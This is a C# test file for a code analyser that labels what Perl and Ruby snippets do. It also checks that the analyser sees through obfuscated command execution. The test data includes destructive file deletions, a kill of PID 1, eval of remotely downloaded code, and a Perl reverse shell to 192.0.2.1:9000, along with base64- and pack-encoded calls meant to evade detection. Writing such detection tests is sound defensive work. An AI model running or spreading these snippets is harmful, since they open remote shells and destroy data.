using Sallyport.Shell;

namespace Sallyport.Tests.Shell.Code;

public class PerlAndRubyTests
{
    [Theory]
    [InlineData("unlink '/etc/hosts'", "Delete /etc/hosts")]
    [InlineData("my @f = glob('/srv/*.log'); unlink @f;", "Delete /srv/*.log")]
    [InlineData("use File::Path; rmtree(\"/srv/data\");", "Delete -r /srv/data")]
    [InlineData("open(my $fh, '>', \"/etc/motd\") or die; print $fh \"x\";", "Truncate /etc/motd #overwrite")]
    [InlineData("open(F, \">>$ENV{HOME}/.bashrc\"); print F 'x';", "Write /home/dev/.bashrc #append")]
    [InlineData("rename '/srv/a', '/srv/b' if -e '/srv/a';", "Move /srv/a")]
    [InlineData("chmod 0777, '/srv/key';", "ChangeMode /srv/key #world-writable")]
    [InlineData("system('tar', 'xf', 'a.tar');", "run tar xf a.tar")]
    [InlineData("kill 9, 1;", "Kill 1 #init")]
    [InlineData("use LWP::Simple; eval get('http://example.org/a.pl');", "ExecuteDownloaded download of http://example.org/a.pl ? #eval")]
    [InlineData("use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => '192.0.2.1', PeerPort => 9000); open(STDIN, '<&', $s); exec 'sh';", "Connect 192.0.2.1:9000 #code-socket")]
    public void Perl(string code, string expected) => CodeProbe.Does(CodeLanguage.Perl, code, expected);

    [Theory]
    [InlineData("system('id')")]
    [InlineData("`id`;")]
    [InlineData("my $x = qx{id};")]
    [InlineData("exec \"i\" . \"d\";")]
    [InlineData("eval \"system('id')\";")]
    [InlineData("my ($a, $b) = ('i', 'd'); system(\"$a$b\");")]
    [InlineData("sub go { my $c = shift; system $c; } go('id');")]
    [InlineData("system(join('', map { chr($_) } (105, 100)));")]
    [InlineData("system(pack('H*', '6964'));")]
    [InlineData("use MIME::Base64; eval(decode_base64('c3lzdGVtKCJpZCIp'));")]
    [InlineData("my %h = (c => 'id'); system($h{c});")]
    [InlineData("system(<<E);\nid\nE\n")]
    [InlineData("s/x/system('id')/e;")]
    [InlineData("POSIX::system('id');")]
    public void Perl_disguises(string code) =>
        Assert.Contains(CodeProbe.Read(CodeLanguage.Perl, code).Code, c => c.Language == CodeLanguage.Shell && c.Text.Known?.Trim() == "id");

    [Theory]
    [InlineData("print 'ok'")]
    [InlineData("# unlink '/etc/hosts'")]
    [InlineData("while (<>) { s/foo/bar/g; print; }")]
    [InlineData("print \"system('id')\\n\";")]
    [InlineData("my %h = (a => 1); foreach my $k (sort keys %h) { print \"$k=$h{$k}\\n\"; }")]
    [InlineData("print 'found' if $x =~ /rm -rf/; my $n = 10 / 2; my $m = $n % 3;")]
    [InlineData("=pod\n\nsystem('id')\n\n=cut\nprint 1;")]
    public void Ordinary_perl_does_nothing(string code) => CodeProbe.IsHarmless(CodeLanguage.Perl, code);

    [Theory]
    [InlineData("require 'fileutils'; FileUtils.rm_rf('/srv/data')", "Delete -r /srv/data")]
    [InlineData("File.delete '/etc/hosts'", "Delete /etc/hosts")]
    [InlineData("File.send(:unlink, '/etc/hosts')", "Delete /etc/hosts")]
    [InlineData("Dir.glob('/srv/*.log').each { |f| File.delete(f) }", "Delete /srv/*.log")]
    [InlineData("Dir['/srv/*'].each do |f|\n  File.delete f\nend", "Delete /srv/*")]
    [InlineData("File.write(File.join(ENV['HOME'], '.bashrc'), 'x')", "Truncate /home/dev/.bashrc #overwrite")]
    [InlineData("File.open('/etc/motd', 'a') { |f| f.puts 'x' }", "Write /etc/motd #append")]
    [InlineData("system 'tar', 'xf', 'a.tar'", "run tar xf a.tar")]
    [InlineData("Process.kill('KILL', 1)", "Kill 1 #init")]
    [InlineData("require 'open-uri'; eval(URI.open('http://example.org/a').read)", "ExecuteDownloaded download of http://example.org/a ? #eval")]
    public void Ruby(string code, string expected) => CodeProbe.Does(CodeLanguage.Ruby, code, expected);

    [Theory]
    [InlineData("system('id')")]
    [InlineData("system \"id\"")]
    [InlineData("`id`")]
    [InlineData("x = %x(id)")]
    [InlineData("Kernel.exec('id')")]
    [InlineData("IO.popen('id')")]
    [InlineData("cmd = ['i', 'd'].join\nsystem(cmd)")]
    [InlineData("def go(c)\n  system(c)\nend\ngo 'id'")]
    [InlineData("eval \"system('id')\"")]
    [InlineData("send(:system, 'id')")]
    [InlineData("Object.const_get(:Kernel).system('id')")]
    [InlineData("a = 'i'; system(\"#{a}d\")")]
    [InlineData("['id'].each { |c| system c }")]
    [InlineData("if true\n  system 'id'\nend")]
    [InlineData("case 1 when 1 then puts 'a' else system('id') end")]
    [InlineData("system(<<~E)\n  id\nE\n")]
    public void Ruby_disguises(string code) =>
        Assert.Contains(CodeProbe.Read(CodeLanguage.Ruby, code).Code, c => c.Language == CodeLanguage.Shell && c.Text.Known?.Trim() == "id");

    [Theory]
    [InlineData("puts 'ok'")]
    [InlineData("# system('id')")]
    [InlineData("puts \"rm -rf / #{1 + 1}\"")]
    [InlineData("x = 3; puts x if x > 2")]
    [InlineData("a = b / c; puts a / 2; puts s =~ /rm -rf/")]
    [InlineData("[1, 2, 3].map { |n| n * 2 }.select(&:even?).each { |n| puts n }")]
    [InlineData("h = { a: 1, 'b' => 2 }; h.each { |k, v| puts \"#{k}=#{v}\" }")]
    public void Ordinary_ruby_does_nothing(string code) => CodeProbe.IsHarmless(CodeLanguage.Ruby, code);
}
